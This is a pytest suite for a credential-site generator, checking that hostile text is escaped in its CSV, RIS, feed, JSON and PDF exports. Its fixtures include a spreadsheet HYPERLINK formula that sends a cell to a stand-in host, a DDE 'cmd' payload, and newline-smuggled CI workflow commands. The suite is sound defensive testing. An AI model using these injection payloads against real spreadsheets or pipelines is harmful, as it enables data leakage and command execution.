"""Every output stays valid for its consumer when the text is hostile."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from xml.etree import ElementTree

import pytest
from pypdf import PdfReader

from credgen.exports.cells import FORMULA_STARTS
from tests.hostile.conftest import Project
from tests.pdf.conftest import make_git_project

SPEC = "specs/credentials/pelvic-health/credential.yaml"
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The examples with formula cells, markup and quotes in a title, a keyword and an author,
    built once without PDFs."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    project = Project(make_git_project(tmp_path / "project"))
    project.edit(
        SPEC, "title: Pelvic health", "title: '" + HYPERLINK.replace("'", "''") + " <b>&amp;</b> ]]> 🩺'"
    )
    project.edit(SPEC, "  - pelvic health\n", "  - \"=cmd|' /C calc'!A0\"\n  - '@SUM(1)'\n  - '-2+3'\n")
    project.edit(SPEC, "  - name: Dr H. Example", "  - name: +Dr H. Example")
    project.edit(SPEC, 'version: "0.1.0"', 'version: "0.2.0"')  # a new version: an entry in the feed
    project.commit("hostile text")
    out = tmp_path / "out"
    run = project.run("build", "--no-pdf", "--out", str(out))
    assert run.code == 0, run.lines
    return out.resolve()


def test_formula_cells_are_neutralised_in_mapping_csv(hostile_site: Path) -> None:
    rows = list(csv.reader(io.StringIO((hostile_site / "api/v1/mapping.csv").read_text(encoding="utf-8"))))
    titles = {row[1] for row in rows if row[0] == "pelvic-health"}
    assert titles == {"'" + HYPERLINK + " <b>&amp;</b> ]]> 🩺"}
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_formula_values_are_neutralised_in_ris(hostile_site: Path) -> None:
    lines = (
        (hostile_site / "credentials/pelvic-health/citation.ris").read_bytes().decode("utf-8").split("\r\n")
    )
    assert "TI  - '" + HYPERLINK + " <b>&amp;</b> ]]> 🩺" in lines
    assert "KW  - '=cmd|' /C calc'!A0" in lines
    assert "KW  - '@SUM(1)" in lines
    assert "KW  - '-2+3" in lines
    assert "AU  - '+Dr H. Example, Consultant Pelvic Health Physiotherapist" in lines


def test_every_xml_output_parses_with_hostile_text(hostile_site: Path) -> None:
    feed = ElementTree.parse(hostile_site / "feed.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    titles = [entry.findtext(f"{atom}title") or "" for entry in feed.iter(f"{atom}entry")]
    assert any(HYPERLINK + " <b>&amp;</b> ]]> 🩺" in title for title in titles)
    sitemap = ElementTree.parse(hostile_site / "sitemap.xml").getroot()
    assert len(sitemap) > 10


def test_every_json_output_parses_with_hostile_text(hostile_site: Path) -> None:
    found = sorted(hostile_site.rglob("*.json"))
    assert len(found) > 20
    titles = set()
    for path in found:
        data = json.loads(path.read_text(encoding="utf-8"))
        if isinstance(data, dict) and data.get("slug") == "pelvic-health":
            titles.add(data["spec"]["title"])
    assert HYPERLINK + " <b>&amp;</b> ]]> 🩺" in titles


def test_newline_in_a_folder_name_cannot_start_a_workflow_command(project: Project) -> None:
    source = project.path(SPEC)
    folder = project.path("specs/credentials/bad\n::error file=x::pwned")
    folder.mkdir()
    (folder / "credential.yaml").write_bytes(source.read_bytes())
    run = project.run("check")
    assert run.code == 1
    assert not [line for line in run.lines if line.startswith("::")]
    assert run.lines[0] == (
        "specs/credentials/bad\\n::error file=x::pwned/credential.yaml:1:1: error[CG202]: folder name "
        "'bad\\n::error file=x::pwned' is not a valid slug (lowercase letters, digits and single hyphens)"
    )


def test_a_20000_character_word_wraps_in_the_pdf(project: Project, tmp_path: Path) -> None:
    """In running text, in an outcome and in a capability statement (a table on the site)."""
    words = {kind: "".join(f"{kind}{n:04d}" for n in range(4000)) for kind in "SOC"}  # 20,000 each
    project.edit(SPEC, "summary: >-\n", f"summary: >-\n  {words['S']}\n")
    project.edit(SPEC, "  - id: LO1\n    text: >-\n", f"  - id: LO1\n    text: >-\n      {words['O']}\n")
    project.edit(SPEC, "            text: >-\n", f"            text: >-\n              {words['C']}\n")
    project.commit("very long words")
    run = project.run("pdf", "pelvic-health", "--out", str(tmp_path / "pdf"))
    assert run.code == 0, run.lines
    [pdf] = sorted((tmp_path / "pdf").glob("pelvic-health-*.pdf"))
    text = "".join("".join(page.extract_text().split()) for page in PdfReader(pdf).pages)
    assert [kind for kind, word in words.items() if word not in text] == []


def test_newline_in_an_output_folder_cannot_start_a_workflow_command(
    project: Project, tmp_path: Path
) -> None:
    project.edit(SPEC, "title: Pelvic health", "title: [Pelvic health")
    out = tmp_path / "out\n::error file=x::pwned"
    run = project.run("build", "--no-pdf", "--out", str(out))
    assert run.code == 1
    assert not [line for line in run.lines if line.startswith("::")]
    assert run.lines[-1].startswith("error: 1 error in the specifications; ")
    assert run.lines[-1].endswith("out\\n::error file=x::pwned left unchanged")
